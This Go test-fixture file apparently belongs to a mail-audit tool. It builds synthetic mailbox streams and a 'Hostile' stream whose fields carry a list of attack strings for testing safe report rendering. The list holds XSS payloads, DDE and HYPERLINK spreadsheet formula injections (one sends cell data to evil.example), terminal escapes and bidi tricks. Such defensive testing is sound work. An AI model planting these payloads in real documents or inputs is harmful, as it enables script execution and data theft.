package reporttest

import (
	"fmt"
	"strings"
	"time"

	"github.com/mailaudit/mailaudit/analyzer/evidence"
	"github.com/mailaudit/mailaudit/analyzer/finding"
)

// Calm is the stream of a mailbox with a few orders and fakes and nothing to worry about.
func Calm() *Stream {
	s := start()
	s.Summary.Messages, s.Summary.Bytes, s.Summary.BytesAccounted = 2_103, 88_000_000, 88_000_000
	s.Sources = []finding.Source{{Name: "INBOX", Size: 88_000_000, SHA256: evidence.Sum([]byte("inbox")), Mailboxes: 1, Messages: 2_103}}
	s.Profile = finding.Profile{Owner: []string{owner}, Trust: []finding.Trust{{Domain: "example.net", AuthservID: "mx.example.net", Place: "above", Years: "2025", Messages: 40}}}
	for m := range 6 {
		s.add(notice(jst(2025, 4+m, 5, 12, 0), finding.OrderPlaced, finding.Info, "Amazon.co.jpでのご注文"))
		s.add(notice(jst(2025, 4+m, 7, 12, 0), finding.OrderDelivered, finding.Info, "配達完了"))
		s.add(fake(jst(2025, 4+m, 9, 5, 0), m))
	}
	s.finish()
	return s
}

// Large is a stream of n messages over twenty years, four in ten of them impersonations.
func Large(n int) *Stream {
	s := start()
	s.Summary.Messages, s.Summary.Bytes, s.Summary.BytesAccounted = int64(n)*20, int64(n)*400_000, int64(n)*400_000
	s.Sources = []finding.Source{{Name: "all.mbox", Size: int64(n) * 400_000, Mailboxes: 1, Messages: int64(n) * 20}}
	first := jst(2006, 1, 1, 0, 0)
	step := 20 * 365 * 24 * time.Hour / time.Duration(n)
	s.Messages = make([]finding.Message, 0, n)
	for i := range n {
		t := first.Add(time.Duration(i) * step)
		switch {
		case i%10 < 4:
			s.add(fake(t, i))
		case i%10 == 4:
			s.add(notice(t, finding.SignedIn, finding.MediumS, "Amazonセキュリティ警告: サインインが検出されました"))
		case i%997 == 5:
			m := notice(t, finding.PasswordChanged, finding.High, "お客様のパスワードが変更されました")
			m.Read, m.Unnoticed = &finding.Read{Seen: no(), Folder: finding.Spam}, true
			s.add(m)
		default:
			s.add(notice(t, finding.OrderShipped, finding.Info, fmt.Sprintf("ご注文商品の発送（250-%07d-%07d）", i, i*31%9999999)))
		}
	}
	s.finish()
	return s
}

// Attacks are texts that do harm where they are not shown harmlessly: markup, script, formulas, terminal escapes, bidi
// and invisible characters, ends of strings and cells, every control character, bytes that are no UTF-8, and a subject of
// a megabyte.
func Attacks() []string {
	var controls strings.Builder
	for r := rune(0); r < 0x20; r++ {
		controls.WriteRune(r)
	}
	for r := rune(0x7f); r < 0xa0; r++ {
		controls.WriteRune(r)
	}
	return []string{
		`<script>window.pwned=1</script>`,
		`"><img src=https://track.example/x.png onerror=window.pwned=1>`,
		`</title></style></textarea></script><svg onload=window.pwned=1>`,
		`' onmouseover='window.pwned=1' style='position:fixed`,
		`=HYPERLINK("https://evil.example/?"&A1,"open")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+1", "\r=1+1", "＝1+1", " =1+1",
		"\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
		"\u202egnp.exe\u202c \u2066a\u2069 \u200f", "a\u200bm\u200ca\u200dz\u2060o\ufeffn", "tag \U000e0041\U000e0042",
		"a,b;c\td\"e\"\nnext,row", controls.String(), "bad \xff\xfe utf-8", "\u2028\u2029 line ends",
		"https://evil.example/login and www.evil.example", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
		"{{.}} ${7*7} {%raw%} {time:time}", "]]>&lt;&#60;&amp;", "_x0041_ _x001B_", strings.Repeat("長い件名 long ", 1<<16),
		strings.Repeat("W", 40_000), strings.Repeat("e\u0301\u0300", 2000),
	}
}

// Hostile is a stream that holds every attack in every text a record has.
func Hostile() *Stream {
	s := start()
	s.Summary.Messages, s.Summary.Bytes, s.Summary.BytesAccounted = 99, 1, 1
	s.Config.Version = Attacks()[0]
	s.Profile = finding.Profile{Labels: map[string]string{}}
	var ids []string
	for i, a := range Attacks() {
		short := a
		if len(short) > 2000 {
			short = short[:2000]
		}
		verdict := finding.Verdicts()[i%7]
		m := finding.Message{
			Time: at(jst(2026, 1, 1+i%28, 0, i)), TimeSource: short, HeaderDate: at(jst(1970, 1, 1, 9, 0)), ClockDoubt: short,
			MessageID: short, From: &finding.Address{Name: short, Address: short}, MoreFrom: []finding.Address{{Name: short, Address: short}},
			ReplyTo: []finding.Address{{Name: short, Address: short}}, ReturnPath: short, To: []finding.Address{{Name: short, Address: short}},
			Subject: a, Brand: short, Marketplace: short, Account: short, Language: short, Verdict: verdict, Rule: short,
			Event: finding.PasswordChanged, Severity: finding.High,
			Details:     &finding.Details{Device: short, Near: short, When: short, OrderID: short, OrderIDs: []string{short, short}, Amount: short, Currency: short, OldEmail: short, NewEmail: short, CardEnd: short, Card: short, AWSAccount: short, Ends: true, NextDate: short, Merchant: short, Item: short},
			Auth:        &finding.Auth{Trusted: short, DMARC: short, SPF: short, MailFrom: short, ARC: short, DKIM: []finding.DKIM{{Domain: short, Selector: short, Result: short, Reason: short}}, Boundary: short, Client: short, Raw: short, Ignored: []string{short}, Checked: []finding.DKIM{{Domain: short, Result: short, Reason: short}}},
			Signals:     []finding.Signal{{ID: short, For: finding.ForImpersonation, Strength: finding.Strong, Shown: short}, {ID: "link.unofficial_host", For: finding.ForGenuine, Strength: finding.Weak, Shown: short}},
			Links:       []finding.Link{{Shown: short, Target: short, Final: short, Host: short, Official: i%2 == 0, Chain: []string{short}, From: short}},
			Attachments: []finding.Attachment{{Name: short, Type: short, Size: -1}},
			Read:        &finding.Read{Folder: finding.Folder(short), Labels: []string{short}, From: []string{short}},
			Unnoticed:   true, Incidents: []string{short}, StartDoubt: short, Inner: true,
			Location: evidence.Location{Path: []string{short, short}, Offset: 1, Length: 1 << 62},
			Copies:   []evidence.Location{{Path: []string{short}}},
		}
		ids = append(ids, s.add(m))
		s.Sources = append(s.Sources, finding.Source{Name: short, Skipped: []finding.Skipped{{Path: []string{short}, Reason: short}}})
		s.Profile.Owner = append(s.Profile.Owner, short)
		s.Profile.Trust = append(s.Profile.Trust, finding.Trust{Domain: short, AuthservID: short, Place: short, Years: short})
		s.Profile.Labels[strings.ToValidUTF8(short, "?")] = short
		s.Rules = append(s.Rules, finding.Rule{ID: short, JA: short, EN: short})
		text := finding.Text{ID: "attention.unnoticed_change", Args: map[string]any{"event": short, "time": short, "account": short}}
		s.Attention = append(s.Attention, finding.Attention{Rank: i + 1, ID: short, Severity: finding.High, Kind: short, Incident: short, Series: short, Account: short, Messages: []string{ids[i], short}, Why: text, Do: []finding.Text{{ID: short}, text}})
		s.Incidents = append(s.Incidents, finding.Incident{ID: short, Kind: short, Severity: finding.Critical, Account: short, Start: at(jst(2026, 1, 1, 0, 0)), End: at(jst(2026, 1, 3, 0, 0)), Messages: []string{ids[i], short}, Story: []finding.Text{text, {ID: short}}})
		s.Series = append(s.Series, finding.Series{ID: short, Issuer: short, Account: short, Event: finding.Event(short), Cadence: short, Periods: []finding.Period{{Period: short, State: short, Message: short}, {Period: "2026-01", State: "read", Message: ids[i]}}})
		s.Ledger = append(s.Ledger, finding.Ledger{ID: short, Kind: short, State: short, Time: at(jst(2026, 1, 1, 0, 0)), OrderID: short, Site: short, Amount: short, Currency: short, Item: short, Status: short, Payment: short, Orders: []string{short}, Messages: []string{ids[i], short}, Path: []string{short, short}, Row: -1})
		s.Problems = append(s.Problems, finding.Problem{Location: evidence.Location{Path: []string{short}}, Stage: short, Reason: short})
	}
	s.finish()
	return s
}
